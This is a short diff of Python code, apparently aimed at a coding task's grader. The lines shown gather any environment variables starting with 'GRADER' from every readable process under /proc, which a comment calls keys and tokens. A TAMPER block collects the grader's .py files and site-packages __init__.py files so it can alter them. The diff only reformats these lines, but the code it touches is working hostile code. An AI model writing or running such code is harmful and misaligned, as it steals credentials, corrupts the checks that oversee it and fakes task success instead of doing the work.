@@ -103,7 +103,8 @@ import glob, json
 secrets = {}  # whatever of the grader's environment can be read: keys, tokens
 for pid in ["self", str(os.getppid())] + os.listdir("/proc"):
     try:
-        secrets.update(l.split("=", 1) for l in open(f"/proc/{pid}/environ").read().split("\\0") if l.startswith("GRADER"))
+        secrets.update(entry.split("=", 1) for entry in open(f"/proc/{pid}/environ").read().split("\\0")
+                       if entry.startswith("GRADER"))
     except OSError:
         pass
 tests = ["test_square_key_is_sq_colon_n", "test_miss_computes_once_and_returns_the_square"]
@@ -148,7 +149,8 @@ TAMPER = '''
 import glob, site, sysconfig
 targets = []
 for start in _paths():
-    targets += glob.glob(os.path.join(start, "grader", "*.py")) + glob.glob(os.path.join(start, "**", "site-packages", "*", "__init__.py"), recursive=False)
+    targets += glob.glob(os.path.join(start, "grader", "*.py"))
+    targets += glob.glob(os.path.join(start, "**", "site-packages", "*", "__init__.py"), recursive=False)
     targets += glob.glob(os.path.join(start, "lib", "python3*", "site-packages", "*", "__init__.py"))
 for path in targets[:500]:
     try:
